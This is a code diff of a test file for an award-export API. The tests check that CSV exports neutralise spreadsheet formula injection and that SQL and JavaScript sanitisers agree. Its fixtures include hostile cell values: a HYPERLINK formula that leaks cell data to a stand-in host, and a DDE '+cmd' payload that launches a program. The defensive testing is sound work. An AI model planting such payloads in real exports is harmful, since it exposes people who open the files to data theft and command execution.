@@ -4,6 +4,7 @@ import type { AddressInfo } from 'node:net';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import fc from 'fast-check';
+import { defuseFormula, defuseFormulaSql } from '../../src/common/csv/formula.js';
 import { AWARD_EXPORT_COLUMNS, sheetEscapingNeededSql, sheetTextSql } from '../../src/exports/award-export.sql.js';
 import {
   makeApprovedNomination,
@@ -185,6 +186,14 @@ describe('exports', () => {
   const parseCsv = (body: Buffer): Record<string, string>[] =>
     parse(body, { bom: true, columns: true, skip_empty_lines: true });
 
+  /** The only sheet of an exported workbook. */
+  async function workbookOf(body: Buffer): Promise<ExcelJS.Worksheet> {
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(body as unknown as ArrayBuffer);
+    expect(workbook.worksheets).toHaveLength(1);
+    return workbook.worksheets[0];
+  }
+
   /** The CSV row of an award, as the API item predicts it. */
   const expectedCsv = (item: AwardItem) => ({
     awardId: item.id,
@@ -355,16 +364,106 @@ describe('exports', () => {
       const response = await download('csv', { organizationId: UNKNOWN_ID }).expect(404);
       expect(response.headers['content-type']).toMatch(PROBLEM);
     });
+
+    it("defuses text a spreadsheet would run as a formula with a leading ' and leaves other text and numbers alone", async () => {
+      const hostile = {
+        recipientName: '=HYPERLINK("http://x.invalid/?leak="&A2,"y")',
+        organizationName: '-2+3',
+        certificateNumber: '\t=1+1',
+        revokedReason: "+cmd|' /C calc'!A0",
+        signerName: '=1+2',
+        signerTitle: '@SUM(9)',
+        decisionNumber: '\r=1',
+        provinceName: '=UBND tỉnh Điện Biên',
+      };
+      const [award]: { id: string; decision_id: string }[] = await t.db.query(
+        `SELECT id, decision_id FROM awards WHERE id = $1`,
+        [revokedAwardId],
+      );
+      await t.db.query(
+        `UPDATE awards SET recipient_name = $2, organization_name = $3, certificate_number = $4, revoked_reason = $5
+          WHERE id = $1`,
+        [award.id, hostile.recipientName, hostile.organizationName, hostile.certificateNumber, hostile.revokedReason],
+      );
+      await t.db.query(`UPDATE decisions SET signer_name = $2, signer_title = $3, number_text = $4 WHERE id = $1`, [
+        award.decision_id,
+        hostile.signerName,
+        hostile.signerTitle,
+        hostile.decisionNumber,
+      ]);
+      await t.db.query(`UPDATE organizations SET name = $2 WHERE id = $1`, [tree.province.id, hostile.provinceName]);
+      // Harmless text: a negative number written as text, and Vietnamese with signs inside it.
+      const harmless = { certificateNumber: '-15', recipientName: 'Trần Văn Bình - Phó phòng = +1 @ nhà' };
+      await t.db.query(
+        `UPDATE awards SET certificate_number = $1, recipient_name = $2 WHERE recipient_name = 'Trần Văn Bình'`,
+        [harmless.certificateNumber, harmless.recipientName],
+      );
+
+      const rows = parseCsv((await download('csv').expect(200)).body as Buffer);
+      const items = await listAll({ includeRevoked: 'true' });
+      expect(rows.map((row) => row.awardId)).toEqual(items.map((item) => item.id));
+      const row = rows.find((candidate) => candidate.awardId === award.id)!;
+      expect(row).toMatchObject({
+        recipientName: `'${hostile.recipientName}`,
+        organizationName: `'${hostile.organizationName}`,
+        certificateNumber: `'${hostile.certificateNumber}`,
+        revokedReason: `'${hostile.revokedReason}`,
+        signerName: `'${hostile.signerName}`,
+        signerTitle: `'${hostile.signerTitle}`,
+        decisionNumber: `'${hostile.decisionNumber}`,
+        revoked: 'yes',
+      });
+      // Every award of the decision carries the signer; every unit path starts with the province's name.
+      for (const other of rows.filter((candidate) => candidate.decisionId === award.decision_id)) {
+        expect(other).toMatchObject({
+          signerName: `'${hostile.signerName}`,
+          decisionNumber: `'${hostile.decisionNumber}`,
+        });
+      }
+      const huongRow = rows.find((candidate) => candidate.recipientName === 'Nguyễn Thị Hương')!;
+      expect(huongRow.organizationPath).toBe(`'${hostile.provinceName} / Sở Thông tin và Truyền thông / Văn phòng Sở`);
+      rows.forEach((candidate) => expect(candidate.organizationPath).toMatch(/^'=UBND tỉnh Điện Biên( \/ |$)/));
+      expect(rows.find((candidate) => candidate.decisionNumber === '01/QĐ-UBND')?.issuerName).toBe(
+        `'${hostile.provinceName}`,
+      );
+      // Harmless text, numbers and dates come out as they are, as GET /awards has them.
+      const binh = rows.find((candidate) => candidate.recipientName === harmless.recipientName)!;
+      expect(binh).toMatchObject({ certificateNumber: '-15', signerName: 'Vừ A Bằng', signerTitle: 'Phó Chủ tịch' });
+      rows
+        .filter((candidate) => candidate.decisionId !== award.decision_id)
+        .forEach((candidate) =>
+          expect(candidate).toMatchObject(expectedCsv(items.find((item) => item.id === candidate.awardId)!)),
+        );
+      rows.forEach((candidate) => {
+        expect(candidate.year).toMatch(/^\d{4}$/);
+        expect(candidate.bonusAmount).toMatch(/^\d+$/);
+      });
+
+      // The workbook needs no such thing: its cells are inline strings, never formulas, and keep the text as it is.
+      const sheet = await workbookOf((await download('xlsx').expect(200)).body as Buffer);
+      const sheetRow = sheet.getRow(items.findIndex((item) => item.id === award.id) + 2);
+      expect(sheetRow.getCell(CSV_COLUMNS.indexOf('signerName') + 1).value).toBe(hostile.signerName);
+    });
+
+    it('defuses formulas in SQL exactly as the audit CSV does in JavaScript, for any text', async () => {
+      const leading = fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' ', "'", 'a', 'Đ', '1', '-1', '-1.5', '\n');
+      const text = fc
+        .tuple(leading, fc.oneof(fc.string({ maxLength: 6 }), fc.constantFrom('', '5', '0.25', '.5', '5x', '+1')))
+        .map(([first, rest]) => first + rest);
+      await fc.assert(
+        fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 8 }), async (values) => {
+          const [row]: Record<string, string>[] = await t.db.query(
+            `SELECT ${values.map((_, index) => `${defuseFormulaSql(`$${index + 1}::text`)} AS "${index}"`).join(', ')}`,
+            values,
+          );
+          values.forEach((value, index) => expect(row[String(index)]).toBe(defuseFormula(value)));
+        }),
+        { numRuns: 200 },
+      );
+    });
   });
 
   describe('GET /exports/awards.xlsx', () => {
-    async function workbookOf(body: Buffer): Promise<ExcelJS.Worksheet> {
-      const workbook = new ExcelJS.Workbook();
-      await workbook.xlsx.load(body as unknown as ArrayBuffer);
-      expect(workbook.worksheets).toHaveLength(1);
-      return workbook.worksheets[0];
-    }
-
     it('streams the same rows as GET /awards?includeRevoked=true, typed, under a frozen header', async () => {
       const response = await download('xlsx').expect(200);
       expect(response.headers['content-type']).toBe(
